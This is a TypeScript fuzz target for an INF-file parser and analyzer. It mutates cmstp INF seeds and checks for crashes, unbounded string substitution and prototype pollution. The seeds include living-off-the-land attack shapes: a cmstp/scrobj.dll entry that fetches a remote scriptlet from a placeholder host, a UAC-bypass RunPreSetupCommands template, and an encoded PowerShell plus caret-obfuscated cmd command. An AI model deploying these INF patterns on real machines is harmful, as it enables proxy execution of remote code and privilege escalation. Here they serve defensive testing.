// INF: mutated cmstp INF files (the Atomic shapes, the public UAC-bypass template, a CM profile)
// through `parseInf` and `analyzeParsedInf` (what `analyzeInf` runs). Checked: no throw, every
// problem has a known code and a line (0 only for whole-input problems), substitution does not
// blow up (output bounded by a multiple of the input), no prototype gains a key.

import { analyzeParsedInf } from '../../src/inf/analyze.js';
import { parseInf, type InfProblemCode } from '../../src/inf/parse.js';
import type { CaseReport } from './outcome.js';
import { describeError, printable, prototypeProblem } from './outcome.js';
import type { Rng } from './rng.js';
import type { FuzzTarget } from './target.js';
import { GENERIC, insertAt, mutateText, repeat, type TextMutation } from './text-mutate.js';

const CODES: ReadonlySet<InfProblemCode> = new Set<InfProblemCode>([
  'input-truncated', 'too-many-lines', 'line-too-long', 'unterminated-quote', 'unclosed-section-header', 'entry-outside-section', 'continuation-at-end', 'undefined-string', 'nul-characters',
]);
const WHOLE_INPUT: ReadonlySet<InfProblemCode> = new Set<InfProblemCode>(['input-truncated']);

const crlf = (lines: string[]): string => lines.join('\r\n') + '\r\n';

const SEEDS: readonly string[] = [
  crlf([
    ';cmstp.exe /s cmstp.inf', '[version]', 'Signature=$chicago$', 'AdvancedINF=2.5', '', '[DefaultInstall_SingleUser]', 'UnRegisterOCXs=UnRegisterOCXSection', '',
    '[UnRegisterOCXSection]', '%11%\\scrobj.dll,NI,https://example.invalid/T1218.003.sct', '', '[Strings]', 'AppAct = "SOFTWARE\\Microsoft\\Connection Manager"', 'ServiceName="Yay"', 'ShortSvcName="Yay"',
  ]),
  crlf([
    '[version]', 'Signature=$chicago$', 'AdvancedINF=2.5', '', '[DefaultInstall]', 'CustomDestination=CustInstDestSectionAllUsers', 'RunPreSetupCommands=RunPreSetupCommandsSection', '',
    '[RunPreSetupCommandsSection]', 'c:\\windows\\system32\\calc.exe', 'taskkill /IM cmstp.exe /F', '', '[CustInstDestSectionAllUsers]', '49000,49001=AllUSer_LDIDSection, 7', '',
    '[AllUSer_LDIDSection]', '"HKLM", "SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\App Paths\\CMMGR32.EXE", "ProfileInstallPath", "%UnexpectedError%", ""', '',
    '[Strings]', 'ServiceName="CorpVPN"', 'ShortSvcName="CorpVPN"',
  ]),
  crlf([
    '[Version]', 'Signature="$Windows NT$"', 'AdvancedINF=2.5', '', '[DefaultInstall]', 'CopyFiles=Xcopy.Files', 'AddReg=Add.Reg', 'RunPostSetupCommands=Post.Cmds', '',
    '[Xcopy.Files]', 'contoso.cms', 'contoso.cmp', '', '[Add.Reg]', 'HKLM,"%KeyUninstall%\\%ServiceName%",DisplayName,,"%ServiceName%"', '',
    '[Post.Cmds]', '"%49000%\\cmdial32.dll",InstallSetup', 'powershell -enc SQBFAFgA', 'c^m^d /c "%TEMP%\\x.bat"', '',
    '[Strings.0409]', 'ServiceName="Contoso VPN"', '[Strings]', 'KeyUninstall="Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall"', 'ServiceName="Contoso"',
  ]),
];

const INF_MUTATIONS: ReadonlyArray<[string, TextMutation]> = [
  ['huge-section', (b, rng) => insertAt(b, Buffer.from(`\r\n[Big]\r\n${'a=b,c,"d"\r\n'.repeat(rng.sized([1000, 20_000], [210_000]))}`), rng)],
  ['continuation-at-end', (b, rng) => Buffer.concat([b, Buffer.from(rng.pick(['\\', 'x=\\', 'x=a \\\r\n\\\r\n\\']))])],
  ['long-continuation', (b, rng) => insertAt(b, repeat('aaaaaaaaaaaaaaa \\\r\n', rng.sized([100, 10_000], [50_000])), rng)],
  ['string-self-reference', (b) => Buffer.concat([b, Buffer.from('\r\n[Strings]\r\na="%a%"\r\nb="%a%%b%%a%"\r\nc=%c\r\n[DefaultInstall]\r\nRunPreSetupCommands=%a%%b%%c%\r\n')])],
  ['strings-bomb', (b, rng) => {
    // One long string, referenced as often as a line allows: substitution multiplies them.
    const n = rng.sized([100, 5000], [20_000]);
    return Buffer.concat([b, Buffer.from(`\r\n[Strings]\r\nx="${'X'.repeat(60_000)}"\r\n[DefaultInstall]\r\nRunPreSetupCommands=${'%x%'.repeat(n)}\r\n${`y=${'%x%,'.repeat(1000)}\r\n`.repeat(rng.pick([1, 50]))}`)]);
  }],
  ['many-references', (b, rng) => insertAt(b, repeat('%Undefined%', rng.sized([100], [20_000])), rng)],
  ['unterminated-quote', (b, rng) => insertAt(b, Buffer.from('"'), rng)],
  ['section-headers', (b, rng) => insertAt(b, repeat(rng.pick(['[', '[x]\r\n', '[Strings]\r\n', '[a\r\n']), rng.sized([10], [10_000])), rng)],
  ['long-line', (b, rng) => insertAt(b, Buffer.from(`k=${'v'.repeat(rng.sized([65_535, 70_000], [1_000_000]))}\r\n`), rng)],
  ['over-8-mib', (b, rng) => (rng.chance(0.2) ? Buffer.concat([b, Buffer.alloc(8 * 1024 * 1024 + 3, 0x41)]) : b)],
  ['dirids', (b, rng) => insertAt(b, Buffer.from(rng.pick(['%11%', '%0000011%', '%-1%', '%99999999999999999999%', '%49000%', '%%', '%%%'])), rng)],
];

export const infTarget: FuzzTarget<Buffer[]> = {
  name: 'inf',
  load: () => SEEDS.flatMap((s) => [Buffer.from(s, 'latin1'), Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(s, 'utf16le')])]),
  run(seeds, rng: Rng) {
    const { bytes, names } = mutateText(rng.pick(seeds), rng, [...GENERIC, ...INF_MUTATIONS, ...INF_MUTATIONS]);
    const report: CaseReport = { records: 0, diagnostics: 0, problems: [], mutations: names, inputSize: bytes.length };
    try {
      const parsed = parseInf(bytes);
      let chars = 0;
      for (const s of parsed.sections.values()) {
        for (const e of s.entries) {
          report.records++;
          for (const f of e.fields) chars += f.length;
        }
      }
      if (chars > 16 * bytes.length + 5_000_000) report.problems.push({ outcome: 'memory', detail: `substitution made ${chars} characters from ${bytes.length} bytes` });
      const analysed = analyzeParsedInf(parsed);
      report.diagnostics = analysed.problems.length;
      for (const p of analysed.problems) {
        if (!CODES.has(p.code)) report.problems.push({ outcome: 'untyped-error', detail: `unknown code ${printable(String(p.code))}` });
        if (!Number.isSafeInteger(p.line) || p.line < 0 || (p.line === 0 && !WHOLE_INPUT.has(p.code))) report.problems.push({ outcome: 'untyped-error', detail: `${p.code} at line ${p.line}: ${printable(p.message)}` });
      }
      JSON.stringify(analysed);
    } catch (e) {
      report.problems.unshift({ outcome: 'exception', detail: describeError(e) });
    }
    const polluted = prototypeProblem();
    if (polluted !== null) report.problems.push({ outcome: 'injection', detail: polluted });
    return report;
  },
};
